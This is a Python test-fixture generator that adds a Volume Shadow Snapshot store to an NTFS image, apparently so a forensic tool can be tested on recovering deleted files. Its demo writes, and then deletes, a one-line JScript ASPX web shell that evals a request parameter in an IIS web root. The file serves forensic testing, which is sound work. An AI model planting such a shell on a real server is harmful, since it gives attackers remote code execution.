#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Adds a Volume Shadow Snapshot (VSS) store to an NTFS volume file, so a
test can read a shadow copy without Windows (which alone writes them).

The layout follows the facts of libyal's "Volume Shadow Snapshot (VSS)
format" (libvshadow's documentation); the code is ours:

* volume header at 0x1e00: the VSS GUID, version 1, record type 1, current
  offset 0x1e00, the catalog offset;
* catalog: one 16 KiB block (header, record type 2), a type 0x02 entry
  (volume size, store GUID, creation FILETIME) and a type 0x03 entry
  (offsets of the store's block list, header, block range list, bitmap);
* store: a store header block (type 4) with its store information (shadow
  copy and set GUIDs, attribute flags, machine names), one block
  descriptor list block (type 3: original offset, store offset), one block
  range list block (type 5), one current bitmap block (type 6; a set bit =
  a 16 KiB block not in use: the store's own blocks read as zeros in the
  snapshot), and the data blocks: the old contents of every 16 KiB block
  that changed after the snapshot.

How (snapshot()): the volume as it is after `before` ran is the snapshot
state; a copy of its bytes is kept. Then, through the ntfs-3g mount, a file
"System Volume Information/{GUID}{3808876b-...}" is written first (in
space free at the snapshot, as Windows' diff area is) whose 16 KiB blocks
each hold a unique marker, so the generator finds where NTFS put
them (the volume is made with 16 KiB clusters, so each block is one
aligned cluster), and `after` changes the volume (a shell deleted, a log
deleted...). Every 16 KiB block that differs between the kept copy and
the changed volume (other than the store's own) gets a descriptor and a
data block holding its old contents; the store's blocks are then
overwritten with the structures above. Reading the store therefore gives
the volume exactly as it was before `after` (tests/shadows.py checks that
with libvshadow's own vshadowinfo and through exhunt).

Limits: one store only; no overlays or forwarders; at most 500 changed
blocks (one descriptor list block).

Usage as a program: make_vss.py VOLUME.raw (a demo layout), needs root and
/dev/fuse like tests/images.py.
"""
import os, shutil, struct, subprocess, sys, uuid

BLOCK = 0x4000
VSS_GUID = uuid.UUID('3808876b-c176-4e48-b7ae-04046e6cc752')
HEADER_OFF = 0x1e00


def filetime(unix_seconds):
    return int((unix_seconds + 11644473600) * 10_000_000)


def block_header(record_type, relative, current, nxt, info_size=0):
    """The 128-byte store/catalog block header."""
    h = VSS_GUID.bytes_le + struct.pack('<IIQQQQ', 1, record_type, relative, current, nxt,
                                        info_size)
    return h + b'\0' * (128 - len(h))


def utf16(s):
    raw = s.encode('utf-16-le')
    return struct.pack('<H', len(raw)) + raw


def run(cmd):
    subprocess.run(cmd, check=True, capture_output=True, timeout=300)


def make_volume(path, size_mb):
    """An empty NTFS volume file with 16 KiB clusters."""
    with open(path, 'wb') as f:
        f.truncate(size_mb << 20)
    run(['mkntfs', '-F', '-q', '-Q', '-c', str(BLOCK), path])


def mounted(path, fn):
    mnt = path + '.mnt'
    os.mkdir(mnt)
    run(['ntfs-3g', path, mnt])
    try:
        fn(mnt)
    finally:
        run(['fusermount', '-u', mnt])
        os.rmdir(mnt)


def snapshot(path, after, created, store_blocks=256):
    """Takes a shadow copy of the NTFS volume file path as it is now, then
    runs after(mountpoint) on it. created: the snapshot's creation time
    (Unix seconds). Returns the number of blocks the store holds."""
    with open(path, 'rb') as f:
        old = f.read()
    store_guid = uuid.uuid4()
    marker = b'EXHVSS' + store_guid.bytes

    def change(mnt):
        # The store first, in space that was free at the snapshot (as
        # Windows' diff area is): blocks that `after` frees keep their old
        # contents, which the snapshot then reads from the live volume.
        svi = os.path.join(mnt, 'System Volume Information')
        os.makedirs(svi, exist_ok=True)
        name = '{%s}{%s}' % (store_guid, VSS_GUID)
        with open(os.path.join(svi, name), 'wb') as f:
            for i in range(store_blocks):
                blk = marker + struct.pack('<I', i)
                f.write(blk + b'\0' * (BLOCK - len(blk)))
        after(mnt)

    mounted(path, change)
    with open(path, 'rb') as f:
        new = bytearray(f.read())
    if len(new) != len(old):
        raise RuntimeError('volume size changed')
    # Where NTFS put the store file's blocks, in file order.
    where = {}
    for off in range(0, len(new), BLOCK):
        if new[off:off + len(marker)] == marker:
            i = struct.unpack_from('<I', new, off + len(marker))[0]
            where[i] = off
    if len(where) != store_blocks:
        raise RuntimeError('store blocks not found (%d of %d)' % (len(where), store_blocks))
    blocks = [where[i] for i in range(store_blocks)]
    own = set(blocks)
    changed = [off for off in range(0, len(new), BLOCK)
               if off not in own and new[off:off + BLOCK] != old[off:off + BLOCK]]
    # Block 0 holds the VSS volume header, written below in both states.
    catalog, header, blist, brange, bitmap = blocks[:5]
    data = blocks[5:]
    if len(changed) > min(len(data), (BLOCK - 128) // 32):
        raise RuntimeError('%d blocks changed: store too small' % len(changed))
    base = header  # the store's relative offsets count from its header

    def put(off, content):
        if len(content) > BLOCK:
            raise RuntimeError('block overflow')
        new[off:off + BLOCK] = content + b'\0' * (BLOCK - len(content))

    # Store header and store information.
    info = (uuid.uuid4().bytes_le + uuid.uuid4().bytes_le + uuid.uuid4().bytes_le +
            struct.pack('<IIII', 0x0d, 0, 0x0042000d, 0) +
            utf16('EXCH01.contoso.local') + utf16('EXCH01.contoso.local'))
    put(header, block_header(4, 0, header, 0, len(info)) + info)
    # Block descriptor list: old contents of each changed block.
    desc = b''
    for i, off in enumerate(changed):
        new[data[i]:data[i] + BLOCK] = old[off:off + BLOCK]
        desc += struct.pack('<QQQII', off, data[i] - base, data[i], 0, 0)
    put(blist, block_header(3, blist - base, blist, 0) + desc)
    # Block range list: the store's blocks, one range each.
    ranges = b''.join(struct.pack('<QQQ', off, off - base, BLOCK) for off in blocks
                      if off != catalog)
    put(brange, block_header(5, brange - base, brange, 0) + ranges[:BLOCK - 128])
    # Current bitmap: the store's own blocks are not in use by the snapshot.
    bits = bytearray((len(new) // BLOCK + 7) // 8)
    for off in blocks:
        bits[off // BLOCK // 8] |= 1 << (off // BLOCK % 8)
    if len(bits) > BLOCK - 128:
        raise RuntimeError('volume too large for one bitmap block')
    put(bitmap, block_header(6, bitmap - base, bitmap, 0) + bytes(bits))
    # Catalog: entry type 2 then type 3.
    e2 = struct.pack('<QQ', 2, len(new)) + store_guid.bytes_le + struct.pack(
        '<QQQ', 1, 0x40, filetime(created))
    e3 = struct.pack('<QQ', 3, blist) + store_guid.bytes_le + struct.pack(
        '<QQQQQQQ', header, brange, bitmap, 0, store_blocks * BLOCK, 0, 0)
    entries = e2 + b'\0' * (128 - len(e2)) + e3 + b'\0' * (128 - len(e3))
    cat = VSS_GUID.bytes_le + struct.pack('<IIQQQ', 1, 2, 0, catalog, 0)
    put(catalog, cat + b'\0' * (128 - len(cat)) + entries)
    # Volume header at 0x1e00 (in $Boot), the same in the snapshot's copy.
    vh = VSS_GUID.bytes_le + struct.pack('<IIQQQQQ', 1, 1, HEADER_OFF, HEADER_OFF, 0, catalog, 0)
    vh += uuid.uuid4().bytes_le + uuid.uuid4().bytes_le
    vh += b'\0' * (512 - len(vh))
    new[HEADER_OFF:HEADER_OFF + 512] = vh
    with open(path, 'r+b') as f:
        f.write(new)
    return len(changed)


def add_empty_header(path):
    """A VSS volume header without a catalog: VSS enabled, no snapshot."""
    vh = VSS_GUID.bytes_le + struct.pack('<IIQQQQQ', 1, 1, HEADER_OFF, HEADER_OFF, 0, 0, 0)
    vh += b'\0' * (512 - len(vh))
    with open(path, 'r+b') as f:
        f.seek(HEADER_OFF)
        f.write(vh)


def main():
    if len(sys.argv) != 2:
        sys.exit('usage: make_vss.py VOLUME.raw')
    path = sys.argv[1]
    make_volume(path, 64)

    def before(mnt):
        os.makedirs(os.path.join(mnt, 'inetpub', 'wwwroot', 'aspnet_client'))
        with open(os.path.join(mnt, 'inetpub', 'wwwroot', 'aspnet_client', 'x.aspx'), 'w') as f:
            f.write('<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>\n')

    def after(mnt):
        os.remove(os.path.join(mnt, 'inetpub', 'wwwroot', 'aspnet_client', 'x.aspx'))

    mounted(path, before)
    print('%d blocks in the store' % snapshot(path, after, 1614700000))


if __name__ == '__main__':
    main()
